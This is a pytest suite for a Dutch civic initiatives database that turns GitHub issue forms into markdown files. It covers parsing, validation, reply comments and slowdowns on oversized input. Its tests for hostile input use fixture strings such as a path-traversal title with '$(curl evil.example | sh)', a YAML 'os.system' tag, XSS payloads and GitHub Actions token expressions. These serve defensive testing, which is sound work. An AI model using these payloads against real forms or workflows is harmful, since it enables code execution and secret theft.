"""From a filled-in GitHub issue form to an initiative file: parsing, mapping, checking, replying."""
from __future__ import annotations

import datetime as dt
import os
import subprocess
import sys
import time
from pathlib import Path

import pytest
from kennisbank.entries.frontmatter import parse
from kennisbank.entries.validate import check_paths
from kennisbank.submission import issue_form as issueform

ISSUES = Path(__file__).resolve().parent / "fixtures" / "issues"
TODAY = dt.date(2024, 6, 1)


def body(name: str) -> str:
    return (ISSUES / f"{name}.md").read_text(encoding="utf-8")


def values_of(text: str) -> dict[str, object]:
    return parse(text.encode("utf-8")).values


def test_parse_body_reads_every_answer_and_no_response_as_none() -> None:
    found = issueform.parse_body(body("minimaal"), issueform.labels_in_order())
    assert found["Titel"] == "Nationale Buitenspeeldag"
    assert found["Gemeente"] == "landelijk"
    assert found["Eindjaar"] is None and found["Aanpak"] is None
    assert found["Toestemming"].startswith("- [X] ")


def test_a_heading_inside_an_answer_stays_part_of_it() -> None:
    found = issueform.parse_body(body("volledig"), issueform.labels_in_order())
    assert "### Tips van ons" in found["Aanpak"]
    hostile = issueform.parse_body(body("kwaadaardig"), issueform.labels_in_order())
    assert hostile["Website"] == "https://voorbeeld.nl/?q='onmouseover=alert(1)//"
    assert "### Website\n\nhttps://evil.example" in hostile["Aanpak"]


def test_full_issue_maps_onto_the_front_matter() -> None:
    conversion = issueform.convert(body("volledig"), TODAY)
    assert conversion.path == "initiatives/noord-brabant/repair-cafe-de-kempen.md"
    assert values_of(conversion.text) == {
        "titel": "Repair Café De Kempen",
        "samenvatting": "Vrijwilligers repareren elke maand kapotte spullen van buurtbewoners: van broodroosters tot fietsen en kleding.",
        "gemeente": ["Nuenen, Gerwen en Nederwetten", "Eindhoven"],
        "themas": ["werk-economie", "openbare-ruimte"],
        "status": "afgerond",
        "startjaar": 2015,
        "eindjaar": 2023,
        "initiatiefnemer": "Stichting Repair Café De Kempen",
        "rol_overheid": "faciliteren",
        "rol_toelichting": "De gemeente betaalde het eerste gereedschap en gaf een ruimte in de bibliotheek.",
        "partners": ["Bibliotheek Dommeldal", "Woningcorporatie Helpt Elkander"],
        "website": "https://repaircafe-dekempen.nl",
        "contact": "info@repaircafe-dekempen.nl",
        "trefwoorden": ["repareren", "duurzaam", "ontmoeting"],
        "lessen": [
            {"soort": "werkte", "tekst": "Een vaste plek in de bibliotheek maakt het makkelijk om binnen te lopen."},
            {"soort": "valkuil", "tekst": "Zonder gereedschap van de stichting zelf hangt alles af van wat vrijwilligers meenemen."},
        ],
        "bronnen": [
            {"url": "https://www.ed.nl/eindhoven/repair-cafe-de-kempen", "titel": "Repair Café De Kempen stopt", "geraadpleegd": "2024-05-20"},
            {"url": "https://repaircafe-dekempen.nl/jaarverslag-2022.pdf"},
        ],
        "bijgewerkt": "2024-06-01",
    }
    matter = parse(conversion.text.encode("utf-8"))
    assert matter.body.lstrip("\n").startswith("## Aanpak\n\nElke eerste zaterdag")
    assert "## Rol van de" not in matter.body  # the role is a field now, never a second prose section


def test_minimal_issue_is_national_and_has_no_empty_fields() -> None:
    conversion = issueform.convert(body("minimaal"), TODAY)
    assert conversion.path == "initiatives/landelijk/nationale-buitenspeeldag.md"
    values = values_of(conversion.text)
    assert values["gemeente"] == "landelijk"
    assert "eindjaar" not in values and "partners" not in values and "rol_overheid" not in values
    assert conversion.text.endswith("---\n")


@pytest.mark.parametrize("name", ["volledig", "minimaal", "kwaadaardig"])
def test_valid_issues_become_files_the_check_accepts(tmp_path: Path, name: str) -> None:
    outcome = issueform.submit(body(name), tmp_path / "initiatives", TODAY)
    assert outcome.ok, outcome.messages
    assert outcome.target.is_file()
    assert outcome.target.resolve().is_relative_to((tmp_path / "initiatives").resolve())
    result = check_paths([tmp_path / "initiatives"])
    assert not result.errors and len(result.initiatives) == 1


def test_hostile_text_arrives_as_plain_values(tmp_path: Path) -> None:
    conversion = issueform.convert(body("kwaadaardig"), TODAY)
    # The title cannot choose the path: only the slug of it ends up there.
    assert conversion.path == "initiatives/zuid-holland/github-workflows-x-curl-evil-example-sh-id-exit-1.md"
    values = values_of(conversion.text)
    assert values["titel"] == '../../.github/workflows/x $(curl evil.example | sh) `id` "; exit 1; #'
    assert values["samenvatting"] == "no: yes\nstatus: afgerond\n--- &anker *alias !!python/object:os.system [x] {y} # niet echt"
    assert values["status"] == "idee"  # the injected 'status: afgerond' line stayed text
    assert values["initiatiefnemer"] == '<script>alert("nemer")</script> & ${{ secrets.GITHUB_TOKEN }}'
    assert values["trefwoorden"] == ["2024-01-01", "no", "null"]
    assert values["partners"] == ["@kennisbank-initiatieven/redactie", "::error::gevaarlijk"]
    assert values["rol_toelichting"] == '<img src=x onerror=alert("rol")> De gemeente gaf ${{ github.token }} en `code`.'
    assert set(values) == {"titel", "samenvatting", "gemeente", "themas", "status", "startjaar", "initiatiefnemer", "rol_toelichting", "partners", "website", "trefwoorden", "bijgewerkt"}


def test_invalid_issue_gets_the_checks_messages_and_no_file(tmp_path: Path) -> None:
    folder = tmp_path / "initiatives"
    outcome = issueform.submit(body("fouten"), folder, TODAY)
    assert not outcome.ok
    assert not outcome.target.exists()
    texts = {m.field: m.text for m in outcome.messages}
    assert texts["samenvatting"] == "moet 20 tot 300 tekens lang zijn; nu 8"
    assert texts["gemeente"] == "onbekende gemeente 'Amsterdm'; bedoelde u 'Amsterdam'?"
    assert texts["startjaar"].startswith("moet een jaartal zijn, zoals 2018, niet 'twintig-twintig'. ")
    assert "laat startjaar dan weg" in texts["startjaar"]
    assert texts["website"].startswith("geen geldig webadres: 'www.buurtbus'")
    reply = issueform.comment(outcome)
    assert "Samenvatting: moet 20 tot 300 tekens lang zijn; nu 8" in reply
    assert "Website: geen geldig webadres" in reply


def test_the_reply_fences_hostile_values(tmp_path: Path) -> None:
    text = body("fouten").replace("www.buurtbus", "````` @iemand <script>x</script>")
    outcome = issueform.submit(text, tmp_path / "initiatives", TODAY)
    reply = issueform.comment(outcome)
    fence = "`" * 6
    assert f"{fence}text\n" in reply and reply.rstrip().endswith(fence)


def test_an_existing_file_is_never_overwritten(tmp_path: Path) -> None:
    folder = tmp_path / "initiatives"
    first = issueform.submit(body("minimaal"), folder, TODAY)
    assert first.ok
    before = first.target.read_bytes()
    again = issueform.submit(body("minimaal"), folder, dt.date(2024, 7, 1))
    assert not again.ok
    assert "er staat al een initiatief in 'initiatives/landelijk/nationale-buitenspeeldag.md'" in again.messages[0].text
    assert first.target.read_bytes() == before


def test_a_slug_used_elsewhere_is_refused(tmp_path: Path) -> None:
    folder = tmp_path / "initiatives"
    other = folder / "utrecht" / "nationale-buitenspeeldag.md"
    other.parent.mkdir(parents=True)
    other.write_text(issueform.convert(body("minimaal"), TODAY).text.replace("landelijk", "Utrecht"), encoding="utf-8")
    outcome = issueform.submit(body("minimaal"), folder, TODAY)
    assert not outcome.ok
    assert any("elke bestandsnaam moet uniek zijn" in m.text for m in outcome.messages)
    assert not outcome.target.exists()


def run_cli(cwd: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "kennisbank.cli", *args], cwd=cwd, capture_output=True, text=True, timeout=120,
                          env={**os.environ, "NO_MKDOCS_2_WARNING": "1"})


def test_cli_van_issue_writes_outputs_for_the_workflow(tmp_path: Path) -> None:
    (tmp_path / "initiatives").mkdir()
    outputs = tmp_path / "outputs"
    result = run_cli(tmp_path, "van-issue", "--body-file", str(ISSUES / "volledig.md"), "--output-dir", "initiatives",
                     "--github-output", str(outputs), "--datum", "2024-06-01")
    assert result.returncode == 0, result.stderr
    assert outputs.read_text(encoding="utf-8") == "valid=true\npath=initiatives/noord-brabant/repair-cafe-de-kempen.md\n"
    assert run_cli(tmp_path, "check").returncode == 0


def test_cli_van_issue_writes_the_reply_when_invalid(tmp_path: Path) -> None:
    (tmp_path / "initiatives").mkdir()
    outputs, reply = tmp_path / "outputs", tmp_path / "reactie.md"
    result = run_cli(tmp_path, "van-issue", "--body-file", str(ISSUES / "fouten.md"), "--comment-file", str(reply),
                     "--github-output", str(outputs))
    assert result.returncode == 1
    assert outputs.read_text(encoding="utf-8") == "valid=false\npath=\n"
    assert "onbekende gemeente 'Amsterdm'" in reply.read_text(encoding="utf-8")
    assert not any((tmp_path / "initiatives").rglob("*.md"))


# ---------- hostile and oversized answers ----------

def with_answer(label: str, answer: str, text: str | None = None) -> str:
    """The issue body (the minimal one unless given) with one answer replaced."""
    text = body("minimaal") if text is None else text
    found = issueform.parse_body(text, issueform.labels_in_order())
    old = found[label] or issueform.NO_RESPONSE
    head, tail = text.split(f"### {label}\n\n{old}", 1)
    return f"{head}### {label}\n\n{answer}{tail}"


def test_nine_kilobyte_municipality_answer_is_handled_in_linear_time(tmp_path: Path) -> None:
    names = ",".join(f"G{index:04d}" for index in range(1500))
    assert 8_999 <= len(names) < issueform.MAX_ANSWER
    started = time.monotonic()
    outcome = issueform.submit(with_answer("Gemeente", names), tmp_path / "initiatives", TODAY)
    assert time.monotonic() - started < 30  # was over 9 minutes; generous bound against quadratic work
    assert not outcome.ok
    assert any(m.field == "gemeente" and m.text == "moet 1 tot 50 onderdelen hebben; nu 1500" for m in outcome.messages)
    assert not any((tmp_path / "initiatives").rglob("*.md"))


def test_long_choice_and_municipality_lists_convert_in_linear_time() -> None:
    themes = next(f for f in issueform.asked_fields() if f.widget == "themes")
    started = time.monotonic()
    assert len(issueform.choice_values("Wonen, " * 3000, themes)) == 3000
    assert len(issueform.gemeente_names("Nuenen, Gerwen en Nederwetten, Zwolle, " * 500)) == 1000
    assert time.monotonic() - started < 10


def test_oversized_answer_is_refused_with_a_reply(tmp_path: Path) -> None:
    outcome = issueform.submit(with_answer("Thema's", "Wonen, " * 3000), tmp_path / "initiatives", TODAY)
    assert not outcome.ok and not any((tmp_path / "initiatives").rglob("*.md"))
    assert [(m.field, m.text) for m in outcome.messages] == [("themas", "mag hoogstens 10000 tekens lang zijn; nu 20999")]
    assert "Thema's: mag hoogstens 10000 tekens lang zijn; nu 20999" in issueform.comment(outcome)


def test_five_thousand_digit_year_gets_a_reply(tmp_path: Path) -> None:
    (tmp_path / "initiatives").mkdir()
    issue = tmp_path / "issue.md"
    issue.write_text(with_answer("Startjaar", "9" * 5000), encoding="utf-8")
    reply, outputs = tmp_path / "reactie.md", tmp_path / "outputs"
    result = run_cli(tmp_path, "van-issue", "--body-file", str(issue), "--comment-file", str(reply), "--github-output", str(outputs))
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert outputs.read_text(encoding="utf-8") == "valid=false\npath=\n"
    assert "Startjaar: mag hoogstens 20 tekens lang zijn; nu 5000" in reply.read_text(encoding="utf-8")
    # Short enough to be read, a long number is still no crash: it is text the check explains.
    conversion = issueform.convert(with_answer("Startjaar", "9" * 19), TODAY)
    assert values_of(conversion.text)["startjaar"] == "9" * 19


def test_a_later_heading_typed_in_an_answer_does_not_shift_the_sections() -> None:
    aanpak = "We begonnen klein.\n\n### Resultaten\n\nDit is nog steeds de aanpak."
    text = with_answer("Resultaten", "Veel resultaat.", with_answer("Aanpak", aanpak, body("volledig")))
    found = issueform.parse_body(text, issueform.labels_in_order())
    assert found["Aanpak"] == aanpak
    assert found["Resultaten"] == "Veel resultaat."
    original = issueform.parse_body(body("volledig"), issueform.labels_in_order())
    assert found["Toestemming"] == original["Toestemming"]
    matter = parse(issueform.convert(text, TODAY).text.encode("utf-8"))
    assert "## Resultaten\n\nVeel resultaat." in matter.body and issueform.NO_RESPONSE not in matter.body


@pytest.mark.parametrize("title", ["Buurt\x00tuin Noord", "Buurt\x1b[31mtuin Noord"])
def test_control_characters_in_the_title_are_not_valid(tmp_path: Path, title: str) -> None:
    outcome = issueform.submit(with_answer("Titel", title), tmp_path / "initiatives", TODAY)
    assert not outcome.ok
    assert any(m.field == "titel" and "stuurteken" in m.text for m in outcome.messages)
